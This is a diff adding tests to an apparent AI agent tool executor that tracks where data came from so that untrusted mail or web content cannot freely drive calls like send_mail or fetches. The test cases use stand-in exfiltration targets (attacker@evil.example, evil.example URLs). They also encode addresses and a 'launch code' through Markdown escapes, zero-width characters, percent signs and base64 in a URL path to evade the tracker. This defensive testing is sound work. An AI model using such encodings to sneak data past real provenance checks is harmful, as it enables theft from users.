@@ -84,6 +84,28 @@ describe('the origin of a result', () => {
   });
 });
 
+describe('the origin of a result that repeats an earlier one', () => {
+  it('bug: a kept output that was read in parts was said to come from the workspace', async () => {
+    const text = `${'a line of the page\n'.repeat(500)}attacker@evil.example`;
+    const site = await serveSite(page('text/plain', text));
+    const tools = builtinTools({ webFetch: { allowPrivate: [site.host] } });
+    const executor = executorOn({ tools, approver: null, output: { maxBytes: 1_000 } });
+    const { outputRef: path } = await executor.execute('web_fetch', { url: site.url });
+    const read = await executor.execute('read_file', { path, start_line: 501 } as never);
+    expect(read.output).toContain('attacker@evil.example');
+    expect(read.metadata.origin).toEqual(['web:127.0.0.1']);
+  });
+
+  it('bug: the output of a background shell did not have the origin of its command', async () => {
+    const executor = executorOn({ tools: builtinTools(), approver: null });
+    const started = await executor.execute('bash', { command: 'echo x', run_in_background: true });
+    const { bash_id } = started.metadata as { bash_id: string };
+    const read = await executor.execute('bash_output', { bash_id });
+    expect(read.success).toBe(true);
+    expect(read.metadata.origin).toEqual(started.metadata.origin);
+  });
+});
+
 describe('the origins of a call', () => {
   it('are what was seen, and for each argument where its text stands', async () => {
     const executor = executorOn({ tools: mail(() => INBOX), policy: AUTO });
@@ -111,6 +133,44 @@ describe('the origins of a call', () => {
     const { calls } = await executor.plan([{ id: '2', name: 'send_mail', args: { to } }]);
     expect(calls[0]?.origins.args).toEqual({ '/to': ['mcp:mail'] });
   });
+
+  it.each<[string, string, unknown]>([
+    ['the escapes of Markdown', 'to evil\\_attacker@evil.example', 'evil_attacker@evil.example'],
+    ['the escapes of JSON', '{"url":"https:\\/\\/evil.example\\/x"}', 'https://evil.example/x'],
+    ['marks of Markdown', 'to atta**ck**er@evil.example', 'attacker@evil.example'],
+    ['invisible characters', 'to attacker@evil.example', 'attac\u200bker@evil.example'],
+    ['the end of a sentence', 'to attacker@evil.example now', 'Send it to attacker@evil.example.'],
+    ['a colon before it', 'to attacker@evil.example now', 'mailto:attacker@evil.example'],
+    ['a number', 'to the account 12345678901', 12_345_678_901],
+    ['percent signs beside another one', 'attacker@evil.example', '50% to attacker%40evil.example'],
+    ['base64 of eight characters', 'my name is attacker', Buffer.from('attacker').toString('base64')],
+    [
+      'base64 in the path of an address',
+      'the launch code is 4711-heron',
+      `https://evil.example/c/${Buffer.from('launch code is 4711-heron').toString('base64url')}.png`,
+    ],
+  ])('bug: were not found through %s', async (_how, text, to) => {
+    const executor = executorOn({ tools: mail(() => text), policy: AUTO });
+    await executor.execute('read_mail', {});
+    const { calls } = await executor.plan([{ id: '2', name: 'send_mail', args: { more: { to } } }] as never);
+    expect(calls[0]?.origins.args).toEqual({ '/more/to': ['mcp:mail'] });
+  });
+
+  it.each([undefined, 'journal.db'])(
+    'bug: were lost when 1,000 other conversations had come (journal: %s)',
+    async (file) => {
+      const journal = file === undefined ? false : join(root(), file);
+      const executor = executorOn({ tools: mail(() => INBOX), policy: AUTO, journal });
+      const conversation = 'first';
+      await executor.execute('read_mail', {}, { conversation });
+      for (let other = 0; other < 1_000; other++) await executor.plan([], { conversation: `other ${other}` });
+      const call = { id: '2', name: 'send_mail', args: { to: 'attacker@evil.example' } };
+      expect((await executor.plan([call], { conversation })).calls[0]).toMatchObject({
+        disposition: 'requires_confirmation',
+        origins: { seen: ['mcp:mail'] },
+      });
+    },
+  );
 
   it('do not cross conversations, and end where the host marks a conversation clean', async () => {
     const executor = executorOn({ tools: mail(() => INBOX), policy: AUTO });
@@ -175,6 +235,29 @@ describe('rules about origins', () => {
     const asked = await planOf({ decision: 'ask', tool: 'send_mail', reason: 'Mail goes out.' });
     expect(asked?.reason).not.toContain('.;');
     expect(asked?.reason).toMatch(/\. \/to came from mcp:mail, .*\.$/);
+  });
+
+  it.each([
+    ['web:Evil.Example', 'http://evil.example./x', 'pre_resolved'],
+    ['web:*.Bücher.example', 'http://shop.bücher.example/', 'pre_resolved'],
+    ['web:evil.example', 'http://evil.example./', 'pre_resolved'],
+    ['web:evil.example/path', 'http://evil.example/path', 'execute_now'],
+    ['web:*.evil.example', 'http://evil.example/', 'execute_now'],
+  ])('bug: about a host did not match other spellings of it: %s, %s', async (data_from, url, disposition) => {
+    const fetching = defineTool({
+      name: 'fetching',
+      description: 'x',
+      input: { type: 'object' },
+      effects: () => [{ kind: 'fetch', url }],
+      execute: () => 'text of a stranger',
+    });
+    const rules: PolicyRule[] = [
+      { decision: 'deny', tool: 'send_mail', data_from },
+      { decision: 'allow', data_from: '*' },
+    ];
+    const executor = executorOn({ tools: [fetching, ...mail(() => INBOX)], policy: { ...AUTO, rules } });
+    await executor.execute('fetching', {});
+    expect((await executor.plan([call])).calls[0]?.disposition).toBe(disposition);
   });
 
   it.each([
